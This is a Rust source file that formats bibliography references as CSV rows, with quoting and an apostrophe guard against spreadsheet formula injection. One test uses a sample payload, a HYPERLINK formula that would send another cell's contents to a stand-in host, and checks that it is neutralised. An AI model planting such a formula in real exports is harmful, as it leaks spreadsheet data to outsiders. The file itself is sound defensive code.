//! Rows of a table (RFC 4180), for spreadsheets.

use crate::Reference;

/// The first row: the names of the columns.
pub const CSV_HEADER: &str = "id,title,authors,container,date,url,language\r\n";

/// Returns a row. Authors are separated by semicolons.
///
/// Before what a spreadsheet would take for a formula stands an apostrophe: titles come
/// from anywhere, and a formula may send away what is in other cells
/// (<https://owasp.org/www-community/attacks/CSV_Injection>).
pub fn csv_row(reference: &Reference) -> String {
    let Reference { id, title, authors, container, date, url, lang, .. } = reference;
    let authors: Vec<String> = authors.iter().map(crate::Name::in_order).collect();
    let date = date.map(|date| date.to_string()).unwrap_or_default();
    let url = url.as_deref().unwrap_or_default();
    let cells = [id, title, &authors.join("; "), container, &date, url, lang].map(cell);
    cells.join(",") + "\r\n"
}

fn cell(text: &str) -> String {
    let is_formula =
        text.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    let guard = if is_formula { "'" } else { "" };
    if text.contains(['"', ',', '\r', '\n']) {
        format!("\"{guard}{}\"", text.replace('"', "\"\""))
    } else {
        format!("{guard}{text}")
    }
}

#[cfg(test)]
mod tests {
    use super::csv_row;
    use crate::{Name, Reference};

    #[test]
    fn what_separates_cells_may_stand_in_them() {
        let reference = Reference {
            id: "a-1".to_owned(),
            title: "Tides, \"explained\"".to_owned(),
            authors: vec![Name::parse("Mary Anning"), Name::parse("Li Wei")],
            date: "2013-06".parse().ok(),
            lang: "en".to_owned(),
            ..Reference::default()
        };
        let row = "a-1,\"Tides, \"\"explained\"\"\",Mary Anning; Li Wei,,2013-06,,en\r\n";
        assert_eq!(csv_row(&reference), row);
    }
    #[test]
    fn no_cell_is_a_formula() {
        let title = "=HYPERLINK(\"https://a.example\", A2)".to_owned();
        let authors = vec![Name::parse("@SUM")];
        let row = csv_row(&Reference { title, authors, ..Reference::default() });
        assert_eq!(row, ",\"'=HYPERLINK(\"\"https://a.example\"\", A2)\",'@SUM,,,,\r\n");
    }
}
